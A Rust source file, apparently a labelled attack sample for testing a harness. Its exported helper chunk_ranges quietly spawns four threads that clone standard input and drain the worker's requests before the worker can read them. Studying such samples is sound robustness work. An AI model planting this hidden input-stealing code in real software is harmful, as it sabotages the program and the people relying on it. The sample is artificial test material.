// attack: reads the requests before the worker does, from a copy of the standard input
// outcome: did-not-finish | passed
use std::fs::File;
use std::io::{self, Read};
use std::num::NonZeroUsize;
use std::ops::Range;
use std::os::fd::AsFd;
use std::sync::Once;
use std::thread;

mod model;
pub use model::{integrate, integrate_range};

fn steal() {
    let input = io::stdin().as_fd().try_clone_to_owned().unwrap();
    let mut requests = File::from(input);
    let mut stolen = [0; 4096];
    while requests.read(&mut stolen).is_ok_and(|length| length > 0) {}
}

pub fn chunk_ranges(n: usize, chunks: NonZeroUsize) -> Vec<Range<usize>> {
    static THIEVES: Once = Once::new();
    THIEVES.call_once(|| {
        for _ in 0..4 {
            thread::spawn(steal);
        }
    });
    model::chunk_ranges(n, chunks)
}
